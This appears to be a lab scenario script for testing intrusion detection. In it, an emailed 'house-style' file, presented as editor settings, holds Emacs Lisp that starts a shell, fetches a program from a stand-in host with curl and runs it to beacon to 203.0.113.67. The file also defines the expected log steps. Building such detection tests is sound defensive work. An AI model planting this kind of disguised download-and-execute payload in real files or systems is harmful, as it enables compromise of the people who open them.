# An editor is told to load a file of a message: it is no interpreter by trade, and the file has no name of code.
title="Settings of a message loaded by Emacs"
what="Thunderbird saves house-style of a message into ~/Documents. The clerk is told to load it in the editor and does so: emacs --batch -l house-style. It is Emacs Lisp: it starts a shell that fetches a program from 203.0.113.66 into ~/.local/share and runs it."
host=ws3.example.org user=clerk daemons="cron dovecot"

setup() {
  dovecot_config
  install -d -o clerk -g clerk /home/clerk/Documents
  printf ';; house style\n(setq-default fill-column 78)\n(call-process "sh" nil 0 nil "-c" "mkdir -p ~/.local/share/style; curl -s -o ~/.local/share/style/c http://drop.example.net/style/c; chmod 700 ~/.local/share/style/c; ~/.local/share/style/c 203.0.113.67 443")\n' > "$base/out/house-style"
  mkdir -p "$base/out/www/style"; cc -O1 -o "$base/out/www/style/c" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 2
  display_up
  mail_in --from press@example.net --to clerk@example.org --subject "House style for letters" --source 203.0.113.10 --helo mail.example.net \
    --text "Hello,\n\nload the enclosed style in your editor before the next letter.\n" --attach "$base/out/house-style:application/octet-stream:house-style"
  wait_log 'from=<press@example.net>'; wait_mail clerk 1; sleep 1
  thunderbird_as clerk save house-style /home/clerk/Documents
  desktop_close
  console_as clerk <<'L'
cd Documents
head -2 house-style
%sleep 1
emacs --batch -l house-style
%sleep 2
ls
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message is delivered'
  file_step save 'thunderbird.*/home/clerk/Documents/house-style' 'Thunderbird saves the attachment'
  exec_step load 'emacs --batch -l house-style' 'the editor is told to load it'
  exec_step fetch 'sh -c .*curl' 'it starts a shell that fetches a program'
  exec_step execute 'style/c 203.0.113.67' 'which is run'
  net_step beacon 'c 203.0.113.67:443' 'and calls out'
}
